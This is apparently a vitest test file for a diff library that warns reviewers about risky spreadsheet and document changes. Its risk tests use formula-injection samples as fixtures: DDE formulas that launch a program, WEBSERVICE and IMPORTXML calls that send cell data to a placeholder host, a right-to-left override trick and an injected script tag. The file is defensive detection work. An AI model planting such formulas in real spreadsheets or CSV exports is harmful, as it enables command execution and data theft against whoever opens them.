import { describe, expect, it } from "vitest";
import { diff, type DiffFormat, type FileDiff, renderDiff } from "@runningtab/review-diff";
import { documentSide, partsSide, sheetPart, textSide, workbook } from "./sides.ts";

function risks({ risks: found = [] }: FileDiff): readonly string[] {
  return found.map(({ kind, address, detail }) => `${kind} ${address} ${detail}`);
}

describe("risks", () => {
  it.each([
    ['=WEBSERVICE("http://x.test/"&A1)', "the formula calls WEBSERVICE"],
    ['=hyperlink("http://x.test","click")', "the formula calls HYPERLINK"],
    ["=cmd|' /C calc'!A0", "the formula starts a program (DDE)"],
    ["=[1]Sheet1!A1*2", "the formula reads another workbook"],
    ["=SUM('[Other plan.xlsx]Q1'!A1:A9)", "the formula reads another workbook"],
  ])("names %s", async (formula, detail) => {
    const result = await diff(workbook(sheetPart([["a", 1]])), workbook(sheetPart([["a", formula]])));
    expect(risks(result)).toEqual([`formula-reaches-outside sheet=Budget&cell=B1 ${detail}`]);
    expect(renderDiff(result, "terminal")).toContain(`note: Look twice at sheet=Budget&cell=B1: ${detail}.`);
  });

  it("names them in inserted rows, and in cells of a CSV that a spreadsheet would run", async () => {
    const rows = [["a"], ["b"]];
    const inserted = await diff(
      workbook(sheetPart(rows)),
      workbook(sheetPart([...rows, ['=IMPORTXML("http://x.test","//a")']])),
    );
    expect(risks(inserted)).toHaveLength(1);
    const table = (text: string) => partsSide("t.csv", [sheetPart([[{ shown: text, raw: text }]], "Sheet1")]);
    expect(risks(await diff(table("ok"), table("+cmd|'/c calc'!A1")))).toHaveLength(1);
  });

  it.each(["=SUM(A1:A9)", '="HYPERLINK(" & A1', "=Table1[Cost]*2", "call me (soon)", "-5"])(
    "finds nothing in %s",
    async (content) => {
      const result = await diff(workbook(sheetPart([["a", 1]])), workbook(sheetPart([["a", content]])));
      expect(result.equal).toBe(false);
      expect(result.risks).toBeUndefined();
    },
  );

  it("names macros that came, and hidden sheets, text and characters", async () => {
    const macro = { type: "loss", kind: "macros", count: 1 } as const;
    const book = sheetPart([["a"]]);
    expect(risks(await diff(workbook(book), workbook(book, macro)))).toEqual(["macros  macros: 0 before, 1 after"]);
    expect(risks(await diff(workbook(book, macro), workbook(book)))).toEqual([]);
    const hidden = sheetPart([["secret"]], "Old", true);
    expect(risks(await diff(workbook(book), workbook(book, hidden)))[0]).toMatch(/^hidden-content sheet=Old/);
    const turned = await diff(documentSide("pay 100"), documentSide("pay \u202e001"));
    expect(risks(turned)[0]).toMatch(/^invisible-characters paragraph=1/);
    expect(risks(await diff(textSide("<p>\n"), textSide("<p>\n<script>alert(1)</script>\n")))[0]).toMatch(/^script L2/);
  });

  it("does not repeat what stood there before", async () => {
    expect(risks(await diff(textSide("<script>a\n"), textSide("<script>b\n")))).toEqual([]);
  });
});

describe("diff", () => {
  it("says how a table is stored where that changed", async () => {
    const table = (text: string) => ({
      ...partsSide("t.csv", [sheetPart([["a"], ["b"]], "Sheet1")]),
      ...textSide(text, "t.csv"),
    });
    const result = await diff(table("a\nb\n"), table("a\r\nb"));
    expect(result.equal).toBe(true);
    expect(result.notes).toContain("Line endings: LF before, CRLF after.");
    expect(result.notes).toContain("Newline at the end: present before, absent after.");
  });

  it("fills in the path that a format from elsewhere left out", async () => {
    const format = {
      specVersion: 1,
      name: "bare",
      accepts: () => true,
      diff: async () => ({
        format: "bare",
        equal: true,
        changes: [],
        summary: "no changes",
        notes: [],
        truncated: false,
      }),
    } as unknown as DiffFormat;
    const result = await diff(textSide("a"), textSide("b", "b.txt"), { formats: [format] });
    for (const name of ["terminal", "markdown", "html"]) expect(renderDiff(result, name)).toContain("b");
    expect(result.path).toBe("b.txt");
  });
});
